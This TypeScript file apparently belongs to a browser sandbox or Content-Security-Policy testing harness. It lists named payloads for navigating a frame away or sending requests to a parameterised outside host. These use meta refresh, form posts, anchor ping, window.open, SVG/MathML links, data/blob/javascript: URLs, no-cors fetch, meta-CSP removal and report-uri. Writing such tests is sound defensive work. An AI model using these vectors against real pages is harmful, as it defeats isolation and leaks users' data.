import { type Channel, type Channels, dataPage, GO, js, literal, plain, quoted } from './fragment'
import type { Outside } from './naming'

const ALONE = { alone: true }
const USER = { alone: true, user: true }
const SVG_BOX = '<rect class="go" width="40" height="20"/>'

const refresh = (content: string) => `<meta http-equiv="refresh" content="${content}">`

/** Each takes the frame to another place: a browser may prepare the way before it is refused. */
export const selfNavigation: Channels = [
  ...plain(
    {
      meta_refresh: (to) => refresh(`0;url=${to.https()}`),
      meta_refresh_body: (to) => `<body><p>x${refresh(`0;url=${to.https()}`)}</body>`,
      x_meta_refresh_ws: (to) => refresh(`&#9;0 ,&#10;URL = '${to.https()}'`),
      nav_self: (to) => js(`location.href='${to.https()}'`),
      nav_self_js_meta: (to) =>
        js(`document.head.insertAdjacentHTML('beforeend',${literal(refresh(`0;url=${to.https()}`))})`),
      nav_api: (to) => js(`navigation.navigate('${to.https()}')`),
      nav_a_click: (to) =>
        `<a id="a" href="${to.https()}">x</a>${js("document.getElementById('a').click()")}`,
    },
    ALONE,
  ),
  ...plain({
    nav_nested: (to) => `<iframe srcdoc="${quoted(js(`location.href='${to.https()}'`))}"></iframe>`,
  }),
  ...plain(
    {
      nav_a_user: (to) => `<a ${GO} href="${to.https()}">x</a>`,
      nav_blank_user: (to) => `<a ${GO} target="_blank" href="${to.https()}">x</a>`,
      x_svg_a_user: (to) => `<svg width="40" height="20"><a href="${to.https()}">${SVG_BOX}</a></svg>`,
      x_xlink_a_user: (to) =>
        `<svg width="40" height="20"><a xlink:href="${to.https()}">${SVG_BOX}</a></svg>`,
      x_smil_a_user: (to) =>
        `<svg width="40" height="20"><a href="#x"><animate attributeName="href" values="${to.https()}" begin="0s" dur="9s"/>${SVG_BOX}</a></svg>`,
      x_area_user: (to) =>
        `<map name="m"><area href="${to.https()}" shape="rect" coords="0,0,60,60"></map><img class="go" usemap="#m" width="60" height="60" alt="" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='60' height='60'/%3E">`,
    },
    USER,
  ),
  ...plain(
    { nav_top_a_user: (to) => `<a ${GO} target="_top" href="${to.https()}">x</a>` },
    { ...USER, top: true },
  ),
]

const form = (to: Outside, more: string, button = '<button class="go">x</button>') =>
  `<form id="f" action="${to.http()}" ${more}><input name="q" value="x">${button}</form>`
const SUBMIT = js("document.getElementById('f').submit()")

export const leaving: Channels = [
  ...plain(
    {
      nav_a_ping: (to) =>
        `<a id="a" ping="${to.http()}" href="#x">x</a>${js("document.getElementById('a').click()")}`,
      nav_form_get: (to) => form(to, '') + SUBMIT,
      nav_form_post: (to) => form(to, 'method="post"') + SUBMIT,
    },
    ALONE,
  ),
  ...plain({ nav_open: (to) => js(`open('${to.http()}')`) }),
  ...plain(
    {
      nav_a_user_ping: (to) => `<a ${GO} ping="${to.http()}" href="#x">x</a>`,
      nav_form_user: (to) => form(to, ''),
      nav_form_blank: (to) => form(to, 'target="_blank"'),
      nav_open_user: (to) => `<button class="go" onclick="window.open('${to.http()}')">x</button>`,
      x_smil_set_user: (to) =>
        `<svg width="40" height="20"><a href="#x"><set attributeName="href" to="${to.https()}" begin="0s"/>${SVG_BOX}</a></svg>`,
      x_math_a_user: (to) =>
        `<math><mrow class="go" href="${to.https()}" xlink:href="${to.https()}"><mtext>xxxxxx</mtext></mrow></math>`,
      x_formaction_user: (to) =>
        form(to, '', `<button class="go" formaction="${to.http('y')}" formtarget="_self">x</button>`),
    },
    USER,
  ),
  ...plain(
    {
      nav_top: (to) => js(`top.location.href='${to.https()}'`),
      nav_parent: (to) => js(`parent.location.href='${to.https()}'`),
    },
    { alone: true, top: true },
  ),
  ...plain(
    { nav_top_user: (to) => `<button class="go" onclick="top.location.href='${to.https()}'">x</button>` },
    { ...USER, top: true },
  ),
  {
    name: 'nav_app_origin',
    alone: true,
    app: true,
    html: (to) => js(`location.href='${to.app}/nav_app_origin?what-was-read'`),
  },
]

const fetches = (to: Outside) => js(`await fetch('${to.http()}',{mode:'no-cors'})`)

export const tricks: readonly Channel[] = [
  ...plain(
    {
      nav_data: (to) => js(`location=${literal(dataPage(fetches(to)))}`),
      nav_blob: (to) =>
        js(`location=URL.createObjectURL(new Blob([${literal(fetches(to))}],{type:'text/html'}))`),
      nav_jsurl: (to) => js(`location="javascript:fetch('${to.http()}',{mode:'no-cors'});void 0"`),
      nav_about_blank: (to) =>
        `<iframe name="blank" src="about:blank"></iframe>${js(`await new Promise(r=>setTimeout(r,100));const w=frames.blank
          w.document.body.append(Object.assign(w.document.createElement('img'),{src:'${to.http('x.png')}'}))`)}`,
      base_rel_img: (to) => `<base href="${to.http('')}"><img src="x.png">`,
      meta_removed: (to) =>
        js(
          `for(const m of document.querySelectorAll('meta'))m.remove();await fetch('${to.http()}',{mode:'no-cors'})`,
        ),
      meta_weaker: (to) =>
        `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; connect-src *">${fetches(to)}`,
    },
    ALONE,
  ),
  ...plain(
    {
      csp_report: (to) =>
        `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${to.http()}"><img src="data:image/png,x">`,
    },
    ALONE,
  ),
]
